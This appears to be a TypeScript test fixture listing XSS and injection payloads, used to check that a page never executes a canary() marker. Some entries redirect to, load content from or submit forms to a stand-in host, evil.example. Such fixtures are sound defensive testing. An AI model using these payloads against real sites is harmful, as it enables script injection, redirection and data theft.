// What people and other parties might write in the hope that a page of ours runs it.

/** Ways to run `canary()`, or to load something, that have worked in one context or another. */
export const TRICKS = [
  '"><img src=//evil.example/x onerror=canary()>',
  "' autofocus onfocus=canary() x='",
  '</title></textarea></script><script>canary()</script>',
  '<svg/onload=canary()>',
  '<details open ontoggle=canary()>',
  '<iframe srcdoc="<script>parent.canary()</script>">',
  '<noscript><p title="</noscript><img src=x onerror=canary()>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=canary()>',
  '<a href=javascript:canary()>canary</a>',
  '<base href=//evil.example/><link rel=stylesheet href=//evil.example/x>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<form action=//evil.example/><button name=do value=decline>',
  '--><!--><script>canary()//',
  ']]><script>canary()</script>',
  '&lt;img src=x onerror=canary()&gt;&#60;script&#62;canary()',
  '+ADw-script+AD4-canary()+ADw-/script+AD4-',
  `<%= canary() %>\${canary()}{{constructor.constructor("canary()")()}}`,
  '\u2028canary()\u2029',
  '{name}{app}$&',
]
